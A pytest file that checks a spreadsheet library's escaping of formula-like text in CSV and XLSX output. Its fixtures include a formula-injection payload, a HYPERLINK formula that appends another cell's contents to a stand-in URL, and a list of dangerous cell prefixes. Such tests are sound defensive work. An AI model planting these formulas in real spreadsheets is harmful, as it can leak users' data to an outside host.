"""Writing spreadsheets: text that looks like a formula stays text, and reads back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kargah.tables import (
    csv_lines,
    escape_cell,
    read_cells,
    unescape_cell,
    write_table,
    write_workbook,
)

ATTACK = '=HYPERLINK("http://x"&B3,"Open")'
DANGEROUS = [ATTACK, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=already quoted"]


def frame() -> pd.DataFrame:
    n = len(DANGEROUS)
    return pd.DataFrame(
        {"name": DANGEROUS, "count": range(-3, n - 3), "share": [-0.5] * n, "plain": ["a"] * n}
    )


def test_every_text_cell_that_starts_a_formula_is_quoted_in_xlsx(tmp_path: Path) -> None:
    path = write_workbook({"w": frame(), "again": frame()}, tmp_path / "t.xlsx")
    for sheet in load_workbook(path).worksheets:
        rows = list(sheet.iter_rows(min_row=2))
        # XML, which XLSX is, reads a carriage return as a line feed.
        assert [r[0].value for r in rows] == ["'" + v.replace("\r", "\n") for v in DANGEROUS]
        assert all(r[0].data_type == "s" for r in rows)  # never "f", a formula
        assert [r[1].value for r in rows] == list(range(-3, len(DANGEROUS) - 3))  # numbers stay
        assert {r[2].value for r in rows} == {-0.5} and {r[3].value for r in rows} == {"a"}


def test_every_text_cell_that_starts_a_formula_is_quoted_in_csv(tmp_path: Path) -> None:
    path = write_table(frame(), tmp_path / "t.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["name", "count", "share", "plain"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in DANGEROUS]
    assert [r[1] for r in rows[1:]] == [str(n) for n in range(-3, len(DANGEROUS) - 3)]


def test_headers_are_escaped_too() -> None:
    lines = list(csv_lines(["=cmd", "ok"], [[1, "-x"]]))
    assert lines == ["\ufeff'=cmd,ok\r\n", "1,'-x\r\n"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_what_kargah_wrote_reads_back_unchanged(tmp_path: Path, suffix: str) -> None:
    cells = read_cells(write_table(frame(), tmp_path / f"t{suffix}"))
    if suffix == ".xlsx":
        assert list(cells["name"]) == [v.replace("\r", "\n") for v in DANGEROUS]
    else:
        assert list(cells["name"]) == DANGEROUS


@given(st.text(max_size=12))
def test_escaping_is_undone_exactly(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert escaped[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}


def test_a_generator_of_rows_is_written_once_without_a_frame(tmp_path: Path) -> None:
    rows = ((i, f"={i}") for i in range(500))  # more rows than the width sample
    path = write_workbook({"s": (["n", "text"], rows)}, tmp_path / "g.xlsx")
    sheet = load_workbook(path).active
    values = [(a.value, b.value) for a, b in sheet.iter_rows(min_row=2)]
    assert values == [(i, f"'={i}") for i in range(500)]
